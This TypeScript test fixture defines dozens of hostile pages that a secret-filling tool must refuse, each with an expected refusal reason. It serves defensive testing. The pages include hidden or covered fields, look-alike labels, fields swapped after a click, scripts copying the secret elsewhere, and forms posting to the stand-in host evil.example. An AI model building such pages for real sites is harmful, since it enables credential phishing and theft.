// Pages that must get no secret: in no field, in no event that their script sees. Each says what refuses it: the look before the
// plan (a `Refusal`), or the fill itself (a `Spoiled`), which looks again right before it sets a value.

export type Hostile = {
  name: string; why: string; body: string; head?: string; script?: string; headers?: Record<string, string>;
  /** Runs in the page between the plan and the fill: the moment after the user's click. */
  after?: string;
};

const field = (is: string, label: string, more = '') => `<p><label>${label} <input data-is="${is}" ${more}></label></p>`;
const usage = '<p><label>User Look-Up Usage <select data-is="usage"><option>Not use</option><option>Use</option></select></label></p>';
const tenant = field('t', 'Tenant ID');
const client = field('c', 'Client ID');
const secret = (more = '', label = 'Secret Code') => field('s', label, `type="password" ${more}`);
const form = (secretField = secret(), more = '', attributes = '') => `<h1>MS AAD</h1><form ${attributes}>${usage}${tenant}${client}${secretField}${more}<button>Save</button></form>`;
const on = (event: string, act: string) => `document.querySelector('[data-is=s]').addEventListener('${event}', (event) => { const it = event.target; ${act} });`;
const S = `document.querySelector('[data-is=s]')`;
const over = (more: string) => `<div style="position:fixed;inset:0;background:white;${more}"></div>`;

const unseen: Hostile[] = [
  ['display: none', 'display:none', 'SecretCode), Hidden'],
  ['visibility: hidden', 'visibility:hidden', 'SecretCode), Hidden'],
  ['opacity 0', 'opacity:0', 'SecretCode), Hidden'],
  ['opacity 0.5', 'opacity:.5', 'SecretCode), Hidden'],
  ['a filter', 'filter:opacity(0)', 'SecretCode), Hidden'],
  ['a mask', 'mask-image:linear-gradient(transparent,transparent)', 'SecretCode), Hidden'],
  ['off the page at the left', 'position:absolute;left:-9999px', 'SecretCode), OffPage'],
  ['off the page at the top', 'position:absolute;top:-500px', 'SecretCode), OffPage'],
  ['fixed beyond the window', 'position:fixed;left:5000px', 'OffPage'],
  ['zero size', 'width:0;height:0;padding:0;border:0', 'SecretCode), TooSmall'],
  ['2 pixels', 'width:2px;height:2px;padding:0;border:0', 'SecretCode), TooSmall'],
  ['scaled to nothing', 'transform:scale(.01)', 'SecretCode), TooSmall'],
  ['turned away', 'transform:rotateY(90deg)', 'SecretCode), TooSmall'],
  ['clip-path', 'clip-path:inset(50%)', 'SecretCode), Covered'],
  ['the old clip', 'position:absolute;clip:rect(0 0 0 0)', 'SecretCode), Covered'],
  ['under the page (z-index)', 'position:relative;z-index:-1', 'SecretCode), Covered'],
  ['deaf to the pointer', 'pointer-events:none', 'SecretCode), Covered'],
].map(([name, style, why]) => ({
  name: `secret field unseen: ${name}`, why, head: '<style>form{background:white}</style>', body: form(secret(`style="${style}"`)),
}));

export const hostile: Hostile[] = [
  ...unseen,
  { name: 'transparent ancestor', why: 'Hidden', body: `<div style="opacity:.3"><div>${form()}</div></div>` },
  { name: 'two half transparent ancestors', why: 'Hidden', body: `<div style="opacity:.93"><div style="opacity:.93">${form()}</div></div>` },
  { name: 'clipped by a box without scrolling', why: 'Covered', body: `<div style="height:120px;overflow:clip">${form()}</div>` },
  { name: 'covered by a layer', why: 'Covered', body: form() + over('') },
  { name: 'covered by a layer that clicks go through', why: 'Covered', body: form() + over('pointer-events:none') },
  { name: 'covered by a picture that clicks go through', why: 'Covered', body: `${form()}<canvas width="900" height="700" style="position:absolute;left:0;top:0;pointer-events:none"></canvas>` },
  { name: 'covered by a popover', why: 'Covered', body: `${form()}<div popover="manual" style="width:100%;height:100%">Welcome</div>`, script: 'document.querySelector("[popover]").showPopover();' },
  { name: 'covered by a modal dialog', why: 'Covered', body: `${form()}<dialog>Welcome</dialog>`, script: 'document.querySelector("dialog").showModal();' },
  { name: 'covered by an invisible layer', why: 'Covered', body: form() + over('opacity:0') },
  { name: 'inert', why: 'Covered', body: `<div inert>${form()}</div>` },
  { name: 'two Secret Codes', why: 'Ambiguous', body: form(secret() + secret()) },
  { name: 'a second, transparent Secret Code', why: 'Ambiguous', body: form(secret() + secret('style="opacity:0"')) },
  { name: 'two whole forms', why: 'Ambiguous', body: form() + form() },
  { name: 'editable text as a decoy', why: 'Ambiguous', body: form(`${secret()}<div contenteditable aria-label="Secret Code">x</div>`) },
  { name: 'only editable text', why: 'NotText', body: form('<div contenteditable aria-label="Secret Code" style="width:200px;height:30px">x</div>') },
  { name: 'look-alike label: Cyrillic', why: 'LookAlike', body: form(secret('', 'Sеcret Code')) },
  { name: 'look-alike label: zero width', why: 'LookAlike', body: form(secret('', 'Secret&#x200b; Code')) },
  { name: 'look-alike beside the right one', why: 'LookAlike', body: form(secret() + secret('', 'Secret C0de')) },
  { name: 'label that says more', why: 'LookAlike', body: form(secret('', 'Secret Code of your bank')) },
  { name: 'Secret ID in place of Secret Code', why: 'Missing', body: form(secret('', 'Secret ID')) },
  { name: 'one id twice, the label on a decoy', why: 'Hidden', body: form('<label for="sc">Secret Code</label><input id="sc" type="password" style="opacity:0"><input id="sc" type="password">') },
  { name: 'decoy id', why: 'Contradictory', body: form(`${secret('id="client-id"')}`) },
  { name: 'the name of another field in ARIA', why: 'Contradictory', body: form(secret('aria-label="Client ID"')) },
  { name: 'swapped placeholder', why: 'Contradictory', body: form(secret('placeholder="Tenant ID"')) },
  { name: 'form sent elsewhere', why: 'ForeignFormAction', body: form(secret(), '', 'action="https://evil.example/"') },
  { name: 'form sent elsewhere by the base address', why: 'ForeignFormAction', head: '<base href="https://evil.example/">', body: form(secret(), '', 'action="save"') },
  { name: 'form sent elsewhere by its button', why: 'ForeignFormAction', body: form(secret(), '<button formaction="//evil.example/">OK</button>') },
  { name: 'form whose action is hidden by a field', why: 'ForeignFormAction', body: form(secret(), '<input name="action" value="/">', 'action="https://evil.example/"') },
  { name: 'form sent elsewhere, named by the field', why: 'ForeignFormAction', body: `${form(secret('form="far"'))}<form id="far" action="https://evil.example/"></form>` },
  { name: 'not rendered (content-visibility)', why: 'Hidden', body: `<div style="content-visibility:hidden">${form()}</div>` },
  { name: 'in a closed part of the page', why: 'Hidden', body: form(`<details><summary>More</summary>${secret()}</details>`) },
  { name: 'covered by a painted pseudo-element that clicks go through', why: 'Covered', head: '<style>.v{position:relative}.v::after{content:"";position:absolute;inset:0;background:white;pointer-events:none}</style>', body: `<div class="v">${form()}</div>` },
  { name: 'covered by a button of the width of the field', why: 'Covered', body: form('<p><label for="sc">Secret Code</label><span style="position:relative;display:inline-block"><input id="sc" data-is="s" type="password"><button type="button" style="position:absolute;inset:0">OK</button></span></p>') },
  { name: 'covered by its own label', why: 'Covered', head: '<style>#l{position:absolute;inset:0;background:white;pointer-events:none}</style>', body: form('<p style="position:relative"><input id="sc" data-is="s" type="password"><label id="l" for="sc">Secret Code</label></p>') },
  ...([
    ['a painted gradient', '.v{position:relative}.v::after{content:"";position:absolute;inset:0;background:linear-gradient(white,white);pointer-events:none}', ''],
    ['a pseudo-element of the page itself', 'body::after{content:"";position:fixed;inset:0;background:white;pointer-events:none}', ''],
    ['a pseudo-element of something else, over this field alone', 'form{position:relative}form::after{content:"";position:absolute;left:0;bottom:10px;width:400px;height:90px;background:white;pointer-events:none}', ''],
    ['a block with a stack of its own', '', '<div style="margin-top:-700px;height:900px;background:white;opacity:.99;pointer-events:none"></div>'],
    ['a layer under a high number in a low stack', '.v{position:relative;z-index:1}form{position:relative;z-index:9999}', over('z-index:5;pointer-events:none')],
    ['a layer that blurs', '', '<div style="position:fixed;inset:0;backdrop-filter:blur(30px);pointer-events:none"></div>'],
    ['a drawing in a layer that is empty itself', '', '<div style="position:fixed;inset:0;pointer-events:none"><svg width="1100" height="900"><rect width="1100" height="900" fill="white"/></svg></div>'],
  ].map(([name, style, more]) => ({ name: `clicks go through, but it covers: ${name}`, why: 'Covered', head: `<style>${style}</style>`, body: `<div class="v">${form()}</div>${more}` }))),
  { name: 'clicks go through, but it covers: the backdrop of a popover', why: 'Covered', head: '<style>[popover]{width:1px;height:1px;border:0;padding:0}[popover]::backdrop{background:white}</style>', body: `<div popover="manual"></div><div style="position:relative;z-index:10">${form()}</div>`, script: 'document.querySelector("[popover]").showPopover();' },
  { name: 'names behind the fields, which are not those of the next ones', why: 'NoForm', body: `<form>${['Tenant ID', 'Client ID', 'Secret Code', 'Notes'].map((name) => `<input> ${name}<br>`).join('')}</form>` },
  { name: 'names below the fields, which are not those of the next ones', why: 'NoForm', body: `<form>${['Tenant ID', 'Client ID', 'Secret Code', 'Notes'].map((name) => `<div style="margin-bottom:30px"><input><br><small>${name}</small></div>`).join('')}</form>` },
  { name: 'form sent elsewhere, around the component', why: 'ForeignFormAction', body: `<form action="https://evil.example/">${['Tenant ID', 'Client ID', 'Secret Code'].map((name) => `<x-field label="${name}"></x-field>`).join('')}</form>`, script: `customElements.define('x-field', class extends HTMLElement { connectedCallback() { this.attachShadow({ mode: 'open' }).innerHTML = '<input>'; } });` },
  { name: 'form sent elsewhere by a button in a shadow tree', why: 'ForeignFormAction', body: '<x-page></x-page>', script: `customElements.define('x-page', class extends HTMLElement { connectedCallback() { this.attachShadow({ mode: 'open' }).innerHTML = ${JSON.stringify(form(secret(), '<button formaction="//evil.example/">OK</button>'))}; } });` },
  { name: 'a filter of the page\'s own making', why: 'Hidden', body: `<svg width="0" height="0"><filter id="f"><feFlood flood-color="white"/></filter></svg><div style="filter:url(#f)">${form()}</div>` },
  { name: 'Use is there, but cannot be chosen', why: 'NoUse', body: form().replace('<option>Use</option>', '<option disabled>Use</option>') },
  { name: 'Tenant ID that takes 32 characters', why: 'MaxLengthTooShort { allows: 32, needs: 36 }', body: form().replace('data-is="t"', 'data-is="t" maxlength="32"') },
  { name: 'label of another directory', why: 'LookAlike', body: form(secret('', 'Google Secret Code')) },
  { name: 'secret in another form', why: 'NotTogether', body: `${form('')}<form>${secret()}</form>` },
  { name: 'maxlength of 32', why: 'MaxLengthTooShort { allows: 32, needs: 40 }', body: form(secret('maxlength="32"')) },
  { name: 'read-only, and nothing to open it', why: 'ReadOnly', body: form(secret('readonly')) },
  { name: 'disabled, and nothing to open it', why: 'Disabled', body: form(secret('disabled')) },
  { name: 'disabled by its fieldset', why: 'Disabled', body: form(`<fieldset disabled>${secret()}</fieldset>`) },
  { name: 'number field', why: 'NotText', body: form(field('s', 'Secret Code', 'type="number"')) },
  { name: 'hidden field', why: 'Missing', body: form(field('s', 'Secret Code', 'type="hidden"')) },
  { name: 'no switch option says Use', why: 'NoUse', body: form().replace('<option>Use</option>', '<option>Sometimes</option>') },
  { name: 'more fields than are looked at', why: 'TooMuch', body: form(secret() + '<input aria-label="x">'.repeat(250)) },
  { name: 'more words than are looked at', why: 'TooMuch', body: form(secret() + `<input aria-label="${'x'.repeat(110)}" title="${'y'.repeat(110)}" placeholder="${'z'.repeat(110)}">`.repeat(190)) },
  { name: 'sandboxed by its policy', why: 'Sandboxed', headers: { 'content-security-policy': 'sandbox allow-scripts' }, body: form() },
  { name: 'a form in a frame', why: 'NoForm { frames: 1 }', body: `<iframe width="600" height="400" srcdoc='${form().replaceAll("'", '&#39;')}'></iframe>` },
  { name: 'nothing of the kind', why: 'NoForm { frames: 0 }', body: '<h1>MS AAD</h1><label>Search <input></label>' },

  // After the click: the plan was good.
  { name: 'labels swapped after the click', why: 'Relabelled', body: form(), after: `const [a, b] = ['t', 's'].map((is) => document.querySelector('[data-is=' + is + ']').parentElement.firstChild); [a.data, b.data] = [b.data, a.data];` },
  { name: 'fields swapped after the click', why: 'Relabelled', body: form(), after: `const c = document.querySelector('[data-is=c]'), s = ${S}; const home = s.parentElement; c.parentElement.append(s); home.append(c);` },
  { name: 'field replaced after the click', why: 'Replaced', body: form(), after: `${S}.replaceWith(${S}.cloneNode());` },
  { name: 'whole form drawn again after the click', why: 'Replaced', body: form(), after: `document.querySelector('form').innerHTML += '';` },
  { name: 'moved to another form after the click', why: 'Replaced', body: `${form()}<form id="other"></form>`, after: `document.getElementById('other').append(${S}.parentElement);` },
  { name: 'label changed after the click', why: 'Relabelled', body: form(), after: `${S}.parentElement.firstChild.data = 'Your password';` },
  { name: 'another name in ARIA after the click', why: 'Relabelled', body: form(), after: `${S}.setAttribute('aria-label', 'Client ID');` },
  { name: 'second Secret Code after the click', why: 'Twin', body: form(), after: `document.querySelector('form').insertAdjacentHTML('beforeend', '<label>Secret Code <input type="password"></label>');` },
  { name: 'covered after the click', why: 'Covered', body: form(), after: `document.body.insertAdjacentHTML('beforeend', '${over('')}');` },
  { name: 'made transparent after the click', why: 'Hidden', body: form(), after: `document.querySelector('form').style.opacity = 0;` },
  { name: 'taken out of sight after the click', why: 'Hidden', body: form(), after: `${S}.hidden = true;` },
  { name: 'made read-only after the click', why: 'ReadOnly', body: form(), after: `${S}.readOnly = true;` },
  { name: 'made a list of numbers after the click', why: 'NotText', body: form(), after: `${S}.type = 'number';` },
  { name: 'shown as plain text after the click', why: 'NotText', body: form(), after: `${S}.type = 'text';` },
  { name: 'shortened after the click', why: 'MaxLengthTooShort', body: form(), after: `${S}.maxLength = 10;` },
  { name: 'form redirected after the click', why: 'ForeignFormAction', body: form(), after: `document.querySelector('form').action = 'https://evil.example/';` },
  { name: 'pattern that the secret does not fit', why: 'Pattern', body: form(secret('pattern="[0-9]+"')) },

  // While it is filled: the rehearsal with a sample shows what the page would do with the secret.
  { name: 'rewrites on input', why: 'Rewritten', body: form(), script: on('input', 'it.value = "x";') },
  { name: 'makes it upper case', why: 'Rewritten', body: form(), script: on('input', 'it.value = it.value.toUpperCase();') },
  { name: 'cuts it on change', why: 'Rewritten', body: form(), script: on('change', 'it.value = it.value.slice(0, 32);') },
  { name: 'takes out punctuation on blur', why: 'Rewritten', body: form(), script: on('blur', `it.value = it.value.replace(/\\W/g, "");`) },
  { name: 'rewrites a while later', why: 'Rewritten', body: form(), script: on('input', 'setTimeout(() => { it.value = "later"; }, 250);') },
  { name: 'cuts it when it has waited for the typing to end', why: 'Rewritten', body: form(), script: on('input', 'setTimeout(() => { it.value = it.value.slice(0, 32); }, 500);') },
  { name: 'rewrites the Tenant ID', why: 'TenantId)), reason: Rewritten', body: form(), script: `document.querySelector('[data-is=t]').addEventListener('input', (event) => { event.target.value = event.target.value.toUpperCase(); });` },
  { name: 'empties the others', why: 'Rewritten', body: form(), script: on('input', `document.querySelector('[data-is=t]').value = '';`) },
  { name: 'copies it to another field', why: 'Copied', body: form(secret() + '<input aria-label="Notes" id="notes">'), script: on('input', `document.getElementById('notes').value = it.value;`) },
  { name: 'moves it to another field', why: 'Rewritten', body: form(secret() + '<input aria-label="Notes" id="notes">'), script: on('change', `document.getElementById('notes').value = it.value; it.value = '';`) },
  { name: 'swaps the labels on the first input', why: 'Relabelled', body: form(), script: `document.querySelector('[data-is=t]').addEventListener('input', () => { ${S}.parentElement.firstChild.data = 'Notes'; });` },
  { name: 'replaces the secret field on the first input', why: 'Replaced', body: form(), script: `document.querySelector('[data-is=t]').addEventListener('input', () => ${S}.replaceWith(${S}.cloneNode()));` },
  { name: 'covers the form on focus', why: 'Covered', body: form(), script: `document.querySelector('[data-is=t]').addEventListener('focus', () => document.body.insertAdjacentHTML('beforeend', '${over('')}'));` },
  { name: 'redirects the form on focus', why: 'ForeignFormAction', body: form(), script: on('focus', `it.form.action = 'https://evil.example/';`) },
  { name: 'turns the secret into text on focus', why: 'NotText', body: form(), script: on('focus', `it.type = 'text';`) },
  { name: 'draws the form again and again', why: 'Replaced', body: form(), script: `setInterval(() => { document.querySelector('form').innerHTML += ''; }, 20);` },
  { name: 'sets the switch back', why: 'Usage', body: form(), script: `document.querySelector('select').addEventListener('change', (event) => { event.target.selectedIndex = 0; });` },
  { name: 'leaves on the first input', why: 'Stale', body: form(), script: `document.querySelector('[data-is=t]').addEventListener('input', () => { location.href = 'https://portal.vendor.example/elsewhere'; });` },
  { name: 'leaves when the switch is set', why: 'Stale', body: form(), script: `document.querySelector('select').addEventListener('change', () => { location.href = 'https://portal.vendor.example/elsewhere'; });` },
];
